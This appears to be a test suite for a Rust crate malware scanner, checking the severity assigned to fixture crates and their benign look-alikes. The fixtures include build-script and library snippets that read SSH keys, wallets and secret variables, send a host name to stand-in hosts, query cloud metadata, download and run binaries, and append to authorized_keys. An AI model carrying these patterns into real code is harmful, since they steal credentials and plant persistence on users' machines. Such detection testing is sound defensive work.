import { describe, expect, it } from 'vitest';
import {
  fakeElf,
  fakePe,
  findingsOf,
  manifest,
  ruleIds,
  scanFiles,
  worst,
} from '../../../../test/fixtures/scanner/crates.js';
import type { Files } from '../../../../test/fixtures/scanner/crates.js';
import { VARIANTS } from '../../../../test/fixtures/scanner/variants.js';
import { atLeast } from '../types.js';
import type { Severity } from '../types.js';

const BUILD = 'build = "build.rs"\n';
const lib = (name: string, code: string, extra = ''): Files => ({
  'Cargo.toml': manifest(name, { extra }),
  'src/lib.rs': code,
});
const build = (name: string, code: string, extra = ''): Files => ({
  'Cargo.toml': manifest(name, { package: BUILD, extra }),
  'build.rs': code,
  'src/lib.rs': '',
});
const macro = (name: string, code: string, extra = ''): Files => ({
  'Cargo.toml': manifest(name, { extra: `[lib]\nproc-macro = true\n${extra}` }),
  'src/lib.rs': code,
});

interface Case {
  name: string;
  files: Files;
  rule: string;
  /** Expected worst severity of the rule, or null when the rule must not fire. */
  severity: Severity | null;
}

const CASES: Case[] = [
  // --- build time ---
  {
    name: 'build script download',
    files: build('b1', 'fn main() { let _ = ureq::get("https://example.org/x.tgz").call(); }'),
    rule: 'build.network',
    severity: 'medium',
  },
  {
    name: 'proc-macro network',
    files: macro('m1', 'fn f() { let _ = std::net::TcpStream::connect("db.internal.invalid:5432"); }'),
    rule: 'build.network',
    severity: 'high',
  },
  {
    name: 'build script fetch with TLS checks off',
    files: build(
      'b2',
      'fn main() { let c = reqwest::blocking::Client::builder().danger_accept_invalid_certs(true).build().unwrap(); let _ = c.get("https://mirror.b2.invalid/x").send(); }',
    ),
    rule: 'build.untrusted-fetch',
    severity: 'critical',
  },
  {
    name: 'build script fetch from a paste site',
    files: build('b3', 'fn main() { let _ = ureq::get("https://pastebin.com/raw/abcd").call(); }'),
    rule: 'build.untrusted-fetch',
    severity: 'critical',
  },
  {
    name: 'build script sh -c',
    files: build(
      'b4',
      'fn main() { std::process::Command::new("sh").arg("-c").arg("echo hi").status().unwrap(); }',
    ),
    rule: 'build.process-spawn',
    severity: 'medium',
  },
  {
    name: 'build script runs cc',
    files: build(
      'b5',
      'fn main() { std::process::Command::new("cc").arg("-c").arg("x.c").status().unwrap(); }',
    ),
    rule: 'build.process-spawn',
    severity: null,
  },
  {
    name: 'proc-macro spawns a process',
    files: macro('m2', 'fn f() { std::process::Command::new("protoc").status().unwrap(); }'),
    rule: 'build.process-spawn',
    severity: 'medium',
  },
  {
    name: 'proc-macro runs git (version stamping)',
    files: macro('m3', 'fn f() { std::process::Command::new("git").args(["describe"]).output().unwrap(); }'),
    rule: 'build.process-spawn',
    severity: null,
  },
  {
    name: 'build script reads ssh keys',
    files: build('b6', 'fn main() { let _ = std::fs::read("/home/u/.ssh/id_rsa"); }'),
    rule: 'build.credential-access',
    severity: 'high',
  },
  {
    name: 'build script reads a token',
    files: build('b7', 'fn main() { let _ = std::env::var("NPM_TOKEN"); }'),
    rule: 'build.secret-env',
    severity: 'medium',
  },
  {
    name: 'build script walks the environment',
    files: build('b8', 'fn main() { for (k, v) in std::env::vars() { println!("{k}{v}"); } }'),
    rule: 'build.env-enumeration',
    severity: 'low',
  },
  {
    name: 'build script walks the environment for features',
    files: build(
      'b9',
      'fn main() { for (k, _) in std::env::vars() { if k.starts_with("CARGO_FEATURE_") { println!("{k}"); } } }',
    ),
    rule: 'build.env-enumeration',
    severity: null,
  },
  {
    name: 'build script climbs to the consumer repository',
    files: build(
      'b10',
      'fn main() { let mut d = std::path::PathBuf::from(std::env::var("CARGO_MANIFEST_DIR").unwrap()); loop { if d.join(".git").exists() { break; } if !d.pop() { break; } d = d.parent().unwrap().to_path_buf(); } }',
    ),
    rule: 'build.consumer-repo-read',
    severity: 'medium',
  },
  {
    name: 'build script reads git diff',
    files: build(
      'b11',
      'fn main() { let o = std::process::Command::new("git").args(["diff", "HEAD"]).output().unwrap(); println!("{}", o.stdout.len()); }',
    ),
    rule: 'build.consumer-repo-read',
    severity: 'medium',
  },
  {
    name: 'build script reads the user name',
    files: build('b12', 'fn main() { let _ = std::env::var("USERNAME"); }'),
    rule: 'build.host-fingerprint',
    severity: 'low',
  },
  {
    name: 'build script sends the host name',
    files: build(
      'b13',
      'fn main() { let h = hostname::get().unwrap(); let _ = ureq::post("https://stats.b13.invalid/").send_string(&format!("{h:?}")); }',
    ),
    rule: 'build.exfiltration',
    severity: 'critical',
  },
  // --- code rules, runtime ---
  {
    name: 'runtime write then run, no network',
    files: lib(
      'r1',
      'pub fn go(b: &[u8]) { let p = std::env::temp_dir().join("t"); std::fs::write(&p, b).unwrap(); std::process::Command::new(&p).spawn().unwrap(); }',
    ),
    rule: 'code.write-then-exec',
    severity: 'medium',
  },
  {
    name: 'runtime download and run',
    files: lib(
      'r2',
      'pub fn go() { let b = ureq::get("https://dl.r2.invalid/tool").call().unwrap(); let p = "/tmp/tool"; std::fs::write(p, b.into_string().unwrap()).unwrap(); std::process::Command::new("chmod").args(["+x", p]).status().unwrap(); }',
    ),
    rule: 'code.download-exec',
    severity: 'high',
  },
  {
    name: 'embedded executable written and run',
    files: {
      ...lib(
        'r3',
        'static B: &[u8] = include_bytes!("../assets/helper.bin"); pub fn go() { let p = std::env::temp_dir().join("h"); std::fs::write(&p, B).unwrap(); std::process::Command::new(&p).spawn().unwrap(); }',
      ),
      'assets/helper.bin': fakeElf(),
    },
    rule: 'code.dropper',
    severity: 'critical',
  },
  {
    name: 'only the host name is sent',
    files: lib(
      'r4',
      'pub fn beat() { let h = gethostname::gethostname(); let _ = std::net::UdpSocket::bind("0.0.0.0:0"); let _ = h; }',
    ),
    rule: 'code.exfiltration',
    severity: 'low',
  },
  {
    name: 'wallet read here, raw IP upload there',
    files: {
      'Cargo.toml': manifest('r5'),
      'src/lib.rs': 'mod a; mod b;',
      'src/a.rs':
        'pub fn k() -> String { std::fs::read_to_string(".config/solana/id.json").unwrap_or_default() }',
      'src/b.rs':
        'pub fn s(x: &str) { let _ = std::net::TcpStream::connect("203.0.113.80:9000"); let _ = x; }',
    },
    rule: 'code.exfiltration-split',
    severity: 'high',
  },
  {
    name: 'runtime sh -c',
    files: lib(
      'r6',
      'pub fn run(c: &str) { std::process::Command::new("bash").arg("-c").arg(c).status().unwrap(); }',
    ),
    rule: 'code.shell-exec',
    severity: 'low',
  },
  {
    name: 'runtime curl',
    files: lib(
      'r7',
      'pub fn get(u: &str) { std::process::Command::new("curl").arg("-sS").arg(u).status().unwrap(); }',
    ),
    rule: 'code.download-tool',
    severity: 'medium',
  },
  {
    name: 'authorized_keys only named',
    files: lib('r8', 'pub const AUTH: &str = "/etc/ssh/authorized_keys";'),
    rule: 'code.persistence',
    severity: 'low',
  },
  {
    name: 'authorized_keys appended to',
    files: lib(
      'r9',
      'use std::io::Write; pub fn add(k: &str) { let mut f = std::fs::OpenOptions::new().append(true).open("/root/.ssh/authorized_keys").unwrap(); writeln!(f, "{k}").unwrap(); }',
    ),
    rule: 'code.persistence',
    severity: 'high',
  },
  {
    name: 'TLS library option',
    files: lib('r10', 'pub fn insecure(b: Builder) -> Builder { b.danger_accept_invalid_certs(true) }'),
    rule: 'code.tls-disabled',
    severity: 'medium',
  },
  {
    name: 'telegram bot library',
    files: lib('r11', 'pub const API: &str = "https://api.telegram.org/bot";'),
    rule: 'code.exfil-endpoint',
    severity: 'medium',
  },
  {
    name: 'serverless host',
    files: lib('r12', 'pub const API: &str = "https://status.r12.workers.dev/v1";'),
    rule: 'code.exfil-endpoint',
    severity: 'low',
  },
  {
    name: 'ordinary URL',
    files: lib('r13', 'pub const DOCS: &str = "https://docs.rs/r13";'),
    rule: 'code.exfil-endpoint',
    severity: null,
  },
  {
    name: 'raw IP',
    files: lib('r14', 'pub const NTP: &str = "203.0.113.123:123";'),
    rule: 'code.raw-ip-endpoint',
    severity: 'low',
  },
  {
    name: 'cloud metadata in a build script',
    files: build(
      'b14',
      'fn main() { let _ = ureq::get("http://169.254.169.254/latest/meta-data/").call(); }',
    ),
    rule: 'code.cloud-metadata',
    severity: 'high',
  },
  {
    name: 'key regexes with a directory walk',
    files: lib(
      'r15',
      'pub fn scan() { let re = regex::Regex::new(r"[0-9a-fA-F]{64}").unwrap(); for e in walkdir::WalkDir::new(".") { let _ = (&re, e); } }',
    ),
    rule: 'code.key-scan',
    severity: 'medium',
  },
  {
    name: 'two credential stores',
    files: lib(
      'r16',
      'pub fn p() -> [&\'static str; 2] { [".aws/credentials", "Library/Keychains/login.keychain-db"] }',
    ),
    rule: 'code.credential-access',
    severity: 'medium',
  },
  {
    name: 'three secret variables',
    files: lib(
      'r17',
      'pub fn k() { for n in ["A_TOKEN", "B_SECRET", "C_PASSWORD"] { let _ = std::env::var(n); } }',
    ),
    rule: 'code.secret-env',
    severity: 'low',
  },
  {
    name: 'CI-gated process',
    files: lib(
      'r18',
      'pub fn init() { if std::env::var_os("GITHUB_ACTIONS").is_some() { std::process::Command::new("id").status().unwrap(); } }',
    ),
    rule: 'code.ci-gated',
    severity: 'medium',
  },
  {
    name: 'antivirus check',
    files: lib(
      'r19',
      'pub fn av() -> bool { let o = std::process::Command::new("tasklist").output().unwrap(); String::from_utf8_lossy(&o.stdout).contains("MsMpEng.exe") }',
    ),
    rule: 'code.av-evasion',
    severity: 'high',
  },
  {
    name: 'setsid',
    files: lib(
      'r20',
      'pub fn d() { std::process::Command::new("setsid").arg("/usr/bin/x").spawn().unwrap(); }',
    ),
    rule: 'code.detached-process',
    severity: 'medium',
  },
  {
    name: 'long random literal in a build script',
    files: build(
      'b15',
      `fn main() { let _k = "${Buffer.from(Array.from({ length: 600 }, (_, i) => (i * 151 + 7) & 0xff)).toString('base64')}"; }`,
    ),
    rule: 'code.high-entropy-literal',
    severity: 'medium',
  },
  {
    name: 'include_bytes! of an executable in a library',
    files: {
      ...lib('r21', 'pub static H: &[u8] = include_bytes!("helper.dll");'),
      'src/helper.dll': fakePe(),
    },
    rule: 'code.include-executable',
    severity: 'medium',
  },
  {
    name: 'payload only in test code',
    files: {
      'Cargo.toml': manifest('r22'),
      'src/lib.rs':
        '#[cfg(test)] mod t { #[test] fn x() { let _ = ureq::get("http://203.0.113.1/p").call(); let p = "/tmp/p"; std::process::Command::new("chmod").args(["+x", p]).status().unwrap(); } }',
    },
    rule: 'code.download-exec',
    severity: 'low',
  },
];

describe('code rules', () => {
  for (const c of CASES) {
    it(`${c.rule}: ${c.name}`, async () => {
      const r = await scanFiles(c.files);
      expect(worst(r, c.rule)).toBe(c.severity);
      if (c.severity !== null) {
        const f = findingsOf(r, c.rule)[0]!;
        expect(f.title.length).toBeGreaterThan(0);
        expect(f.why.length).toBeGreaterThan(0);
        expect(f.evidence.length).toBeGreaterThan(0);
      }
    });
  }

  it('gives file, line and context for code findings', async () => {
    const r = await scanFiles(
      build('b16', '\n\nfn main() {\n    let _ = std::env::var("AWS_SECRET_ACCESS_KEY");\n}\n'),
    );
    const f = findingsOf(r, 'build.secret-env')[0]!;
    expect([f.file, f.line, f.context]).toEqual(['build.rs', 4, 'build-script']);
  });

  it('rates the same call higher in a build script than in a library, and lowest in tests', async () => {
    const code =
      'fn x() { let _ = std::fs::read_to_string(format!("{}/.ssh/id_ed25519", std::env::var("HOME").unwrap())); let _ = std::net::TcpStream::connect("logs.x.invalid:443"); }';
    const inBuild = await scanFiles(build('c1', `fn main() { x() } ${code}`));
    const inLib = await scanFiles(lib('c1', `pub ${code}`));
    const inTest = await scanFiles({ 'Cargo.toml': manifest('c1'), 'src/lib.rs': '', 'tests/t.rs': code });
    expect(inBuild.verdict).toBe('critical');
    expect(inLib.verdict).toBe('high');
    expect(inTest.verdict).toBe('low');
  });
});

describe('technique variants and benign look-alikes', () => {
  for (const v of VARIANTS) {
    it(v.name, async () => {
      const r = await scanFiles(v.files);
      const high = r.verdict !== 'clean' && atLeast(r.verdict, 'high');
      expect(high).toBe(v.malicious);
      if (v.rule)
        expect(r.findings.some((f) => f.ruleId === v.rule && atLeast(f.severity, 'high'))).toBe(v.malicious);
      if (!v.malicious) expect(ruleIds(r, 'high')).toEqual([]);
    });
  }
});
